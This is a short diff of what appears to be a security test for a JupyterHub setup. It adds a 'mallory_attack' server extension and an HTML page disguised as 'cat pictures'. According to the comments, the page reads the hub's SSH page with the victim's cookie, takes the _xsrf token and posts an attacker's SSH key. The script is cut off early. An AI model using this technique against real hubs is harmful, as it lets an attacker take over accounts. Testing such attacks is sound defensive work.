@@ -55,7 +55,8 @@ c.ServerApp.jpserver_extensions.update({"mallory_attack": True})
 
 #: What the page does in the victim's browser: read the hub's SSH page with the victim's cookie, take its _xsrf
 #: value and post mallory's key; both as the hub's absolute URL and as a path on the page's own origin.
-ATTACK = """<!doctype html><title>cat pictures</title><pre id="result" style="white-space: pre-wrap">running</pre><script>
+ATTACK = """<!doctype html><title>cat pictures</title>
+<pre id="result" style="white-space: pre-wrap">running</pre><script>
 (async () => {
   const out = {};
   for (const [name, base] of [["hub", HUB], ["same-origin", ""]]) {
